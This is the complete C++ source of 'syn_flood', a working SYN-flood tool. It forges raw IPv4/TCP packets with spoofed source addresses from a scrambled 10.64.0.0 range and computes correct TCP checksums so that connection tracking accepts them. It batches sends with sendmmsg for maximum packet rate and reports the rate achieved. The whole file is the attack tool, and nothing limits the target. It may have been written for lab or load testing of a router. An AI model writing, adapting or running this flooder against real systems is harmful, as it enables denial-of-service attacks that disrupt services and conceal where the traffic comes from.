// syn_flood DESTINATION PORT SECONDS [SOURCES]: sends TCP SYNs to
// DESTINATION:PORT for SECONDS, as fast as the kernel takes them, each from a
// spoofed source: SOURCES addresses (default 2^20, a power of two) from
// 10.64.0.0 on, visited in a scrambled order, with a source port that changes
// each time the addresses come round. Prints what it sent and the rate.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

constexpr std::uint32_t kSourceBase = 0x0a400000;  // 10.64.0.0/10
constexpr std::uint32_t kDefaultSources = 1U << 20;
constexpr std::uint32_t kScramble = 2654435761U;  // odd: a permutation modulo any power of two
constexpr std::size_t kBatch = 64;

struct SynPacket {
  iphdr ip;
  tcphdr tcp;
};

std::uint32_t sum16(const void* data, std::size_t length, std::uint32_t sum) {
  const auto* bytes = static_cast<const std::uint8_t*>(data);
  for (std::size_t i = 0; i + 1 < length; i += 2) {
    sum += static_cast<std::uint32_t>(bytes[i] << 8 | bytes[i + 1]);
  }
  return sum;
}

std::uint16_t fold(std::uint32_t sum) {
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<std::uint16_t>(~sum & 0xffff));
}

// The TCP checksum over the IPv4 pseudo-header (tcp_v4_check): the router's
// conntrack calls a SYN with a wrong one INVALID.
void fill(SynPacket& p, std::uint32_t source, std::uint16_t source_port) {
  p.ip.saddr = htonl(source);
  p.tcp.source = htons(source_port);
  p.tcp.check = 0;
  std::uint32_t sum = sum16(&p.ip.saddr, 8, 0);  // source and destination
  sum += IPPROTO_TCP + sizeof(tcphdr);
  p.tcp.check = fold(sum16(&p.tcp, sizeof(tcphdr), sum));
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 4) {
    std::fprintf(stderr, "usage: syn_flood DESTINATION PORT SECONDS [SOURCES]\n");
    return 2;
  }
  in_addr destination{};
  if (inet_pton(AF_INET, argv[1], &destination) != 1) {
    std::fprintf(stderr, "syn_flood: not an IPv4 address: %s\n", argv[1]);
    return 2;
  }
  const auto port = static_cast<std::uint16_t>(std::strtoul(argv[2], nullptr, 10));
  const double seconds = std::strtod(argv[3], nullptr);
  const std::uint32_t sources =
      argc > 4 ? static_cast<std::uint32_t>(std::strtoul(argv[4], nullptr, 10)) : kDefaultSources;
  if (sources == 0 || (sources & (sources - 1)) != 0) {
    std::fprintf(stderr, "syn_flood: SOURCES must be a power of two\n");
    return 2;
  }
  // IPPROTO_RAW: we write the IP header, source address included.
  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    std::perror("socket");
    return 1;
  }
  std::array<SynPacket, kBatch> packets{};
  std::array<iovec, kBatch> vectors{};
  std::array<mmsghdr, kBatch> messages{};
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = destination;
  for (std::size_t i = 0; i < kBatch; ++i) {
    SynPacket& p = packets[i];
    p.ip.version = 4;
    p.ip.ihl = 5;
    p.ip.tot_len = htons(sizeof(SynPacket));
    p.ip.ttl = 64;
    p.ip.protocol = IPPROTO_TCP;
    p.ip.daddr = destination.s_addr;
    p.tcp.dest = htons(port);
    p.tcp.doff = 5;
    p.tcp.syn = 1;
    p.tcp.window = htons(64240);
    vectors[i] = {&p, sizeof(SynPacket)};
    messages[i].msg_hdr.msg_name = &to;
    messages[i].msg_hdr.msg_namelen = sizeof(to);
    messages[i].msg_hdr.msg_iov = &vectors[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  const auto start = std::chrono::steady_clock::now();
  const auto end = start + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  std::uint64_t refused = 0;  // batches the kernel would not take (ENOBUFS and the like)
  std::uint64_t next = 0;
  while (std::chrono::steady_clock::now() < end) {
    for (std::size_t i = 0; i < kBatch; ++i, ++next) {
      const std::uint32_t index = static_cast<std::uint32_t>(next) * kScramble & (sources - 1);
      packets[i].tcp.seq = htonl(static_cast<std::uint32_t>(next));
      fill(packets[i], kSourceBase + index, static_cast<std::uint16_t>(1024 + next / sources));
    }
    const int got = sendmmsg(fd, messages.data(), kBatch, 0);
    if (got < 0) {
      ++refused;
      continue;
    }
    sent += static_cast<std::uint64_t>(got);
  }
  const double took =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  close(fd);
  std::printf("sent %llu SYNs from %u sources in %.1f s: %.0f pps; refused batches %llu\n",
              static_cast<unsigned long long>(sent), sources, took,
              static_cast<double>(sent) / took, static_cast<unsigned long long>(refused));
  return sent > 0 ? 0 : 1;
}
